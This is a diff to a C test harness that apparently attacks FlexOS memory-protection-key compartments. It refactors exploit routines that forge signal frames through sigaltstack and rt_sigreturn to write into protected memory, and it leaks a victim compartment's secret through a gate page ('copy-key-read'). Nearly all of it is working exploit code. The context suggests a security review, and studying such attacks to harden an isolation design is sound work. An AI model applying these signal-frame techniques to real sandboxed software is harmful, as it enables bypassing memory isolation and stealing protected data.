@@ -1229,6 +1229,34 @@ static long stub_noscrub(long secret, int legit)
 }
 
 /*
+ * Where the kernel puts a queued siginfo's words on a signal stack whose
+ * top is top, in buf: a marked siginfo sent to thread tid (waiting, its
+ * stack in buf), then looked for. 0 (errno ENOENT) when not found.
+ */
+static uintptr_t calibrate(const char *mode, pid_t tid, const void *buf, uintptr_t top,
+			   unsigned long value)
+{
+	queue_marked(tid, value);
+	usleep(50000);
+	uintptr_t lo = marked_word(buf, value);
+	printf("%s: calibration: siginfo's words %#lx below the top\n", mode,
+	       lo ? (unsigned long)(top - lo) : 0UL);
+	if (!lo)
+		errno = ENOENT;
+	return lo;
+}
+
+/* The marked siginfo to thread tid once it runs app_busy (in 'app'), then time for the frame. */
+static void signal_in_app(const char *mode, pid_t tid, unsigned long value)
+{
+	usleep(100000); /* in app_busy */
+	long r = queue_marked(tid, value);
+	printf("%s: rt_tgsigqueueinfo %ld\n", mode, r);
+	fflush(stdout);
+	usleep(400000);
+}
+
+/*
  * table-tail: sigaltstack with the table's last 8 bytes (ss_sp 0) and the 16
  * bytes after its page (ss_flags SS_AUTODISARM, ss_size: any top), which
  * the filter's page check passed (an attack review's): the kernel writes the frame of a signal
@@ -1262,15 +1290,9 @@ static long table_tail_frame(uintptr_t target)
 		errno = c.err;
 		return 0;
 	}
-	queue_marked(c.tid, value);
-	usleep(50000);
-	uintptr_t lo_cal = marked_word(buf, value);
-	printf("table-tail: calibration: siginfo's words at %#lx below the top\n",
-	       lo_cal ? (unsigned long)(c.top - lo_cal) : 0UL);
-	if (!lo_cal) {
-		errno = ENOENT;
+	uintptr_t lo_cal = calibrate("table-tail", c.tid, buf, c.top, value);
+	if (!lo_cal)
 		return 0;
-	}
 	/* Keep the 64-byte alignment: move the top by a multiple of 64. */
 	uintptr_t k = ((target - lo_cal) & 63) / 8, lo = target - 8 * k;
 	a.use_tail = 1;
@@ -1282,11 +1304,7 @@ static long table_tail_frame(uintptr_t target)
 	pthread_detach(t);
 	while (!a.ready)
 		usleep(1000);
-	usleep(100000); /* in app_busy */
-	long r = queue_marked(a.tid, value);
-	printf("table-tail: rt_tgsigqueueinfo %ld\n", r);
-	fflush(stdout);
-	usleep(400000);
+	signal_in_app("table-tail", a.tid, value);
 	errno = a.err;
 	return 0;
 }
@@ -1566,7 +1584,7 @@ int evil_spawn(int which)
 	return err ? err : pthread_detach(t);
 }
 
-/* ==== review (2026-12-07): three attacks on today's changes ==== */
+/* ---- Attacks on the copy key, the restorer and the clone site (an attack review's) ---- */
 
 /*
  * Mode 63, sigreturn-altstack: rt_sigreturn's restore_altstack sets the
@@ -1691,15 +1709,9 @@ static long sigreturn_altstack(uintptr_t target)
 	       c.now.ss_sp, (unsigned long)c.now.ss_size, (unsigned)c.now.ss_flags,
 	       (unsigned long)(c.top - c.size), (unsigned long)c.size);
 	usleep(10000);
-	queue_marked(c.tid, value);
-	usleep(50000);
-	uintptr_t lo_cal = marked_word(buf, value);
-	printf("sigreturn-altstack: calibration: siginfo's words %#lx below the top\n",
-	       lo_cal ? (unsigned long)(c.top - lo_cal) : 0UL);
-	if (!lo_cal) {
-		errno = ENOENT;
+	uintptr_t lo_cal = calibrate("sigreturn-altstack", c.tid, buf, c.top, value);
+	if (!lo_cal)
 		return 0;
-	}
 	uintptr_t k = ((target - lo_cal) & 63) / 8, lo = target - 8 * k;
 	a.size = 0x10000;
 	if (k == 4) {
@@ -1719,11 +1731,7 @@ static long sigreturn_altstack(uintptr_t target)
 		usleep(1000);
 	printf("sigreturn-altstack: victim's signal stack after the forged return: %p + %#lx\n",
 	       a.now.ss_sp, (unsigned long)a.now.ss_size);
-	usleep(100000); /* in app_busy */
-	long r = queue_marked(a.tid, value);
-	printf("sigreturn-altstack: rt_tgsigqueueinfo %ld\n", r);
-	fflush(stdout);
-	usleep(400000);
+	signal_in_app("sigreturn-altstack", a.tid, value);
 	errno = 0;
 	return 0;
 }
@@ -1795,6 +1803,7 @@ extern char flexos__mpk_gate_text_lo[], flexos__mpk_gate_text_hi[];
 
 static long copy_key_read(long secret, int restorer)
 {
+	const char *mode = restorer ? "restorer-close-read" : "copy-key-read";
 	static struct rv_reader v;
 	struct sigaction sa;
 	pthread_t t;
@@ -1823,7 +1832,7 @@ static long copy_key_read(long secret, int restorer)
 			break;
 		}
 	if (!gp) {
-		printf("copy-key-read: the victim's gate page not found\n");
+		printf("%s: the victim's gate page not found\n", mode);
 		errno = ENOENT;
 		return 0;
 	}
@@ -1836,15 +1845,12 @@ static long copy_key_read(long secret, int restorer)
 	    copy + (idx * MPK_SIG_AREAS + MPK_SIG_FRAMES) * stride + MPK_SIG_COPY_UC;
 	/* Direct reads first: the kernel copies under evil's PKRU (EFAULT if it cannot). */
 	int fds[2];
-	long w = 0;
 	if (pipe(fds))
 		return 0;
-	printf(
-	    "copy-key-read: victim's gate page %lu, last area's ucontext %#lx; a direct read: %s\n",
-	    (unsigned long)idx, (unsigned long)last_uc,
-	    write(fds[1], (const void *)(last_uc + MPK_UC_GREGS), 8) == 8 ? "readable"
-									  : strerror(errno));
-	(void)w;
+	printf("%s: victim's gate page %lu, last area's ucontext %#lx; a direct read: %s\n", mode,
+	       (unsigned long)idx, (unsigned long)last_uc,
+	       write(fds[1], (const void *)(last_uc + MPK_UC_GREGS), 8) == 8 ? "readable"
+									     : strerror(errno));
 	rv_leak = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
 	if (rv_leak == MAP_FAILED)
 		return 0;
@@ -1887,15 +1893,15 @@ static long copy_key_read(long secret, int restorer)
 		}
 		int in_gate = rv_leak->rip >= (unsigned long)flexos__mpk_gate_text_lo &&
 			      rv_leak->rip < (unsigned long)flexos__mpk_gate_text_hi;
-		printf("copy-key-read: app's %-3s (copy-key word %#lx): %s %#lx, fault at %#lx%s\n",
+		printf("%s: app's %-3s (copy-key word %#lx): %s %#lx, fault at %#lx%s\n", mode,
 		       names[k], (unsigned long)target,
 		       rv_leak->done ? "si_addr" : "no fault, status",
 		       rv_leak->done ? rv_leak->addr : (unsigned long)st, rv_leak->rip,
 		       in_gate ? " (the gate's code)" : "");
 		if (rv_leak->done && rv_leak->addr == (unsigned long)needle) {
-			printf("copy-key-read: app's value %#lx read from the copy key's memory "
+			printf("%s: app's value %#lx read from the copy key's memory "
 			       "(its %s)\n",
-			       (unsigned long)needle, names[k]);
+			       mode, (unsigned long)needle, names[k]);
 			found = 1;
 		}
 	}
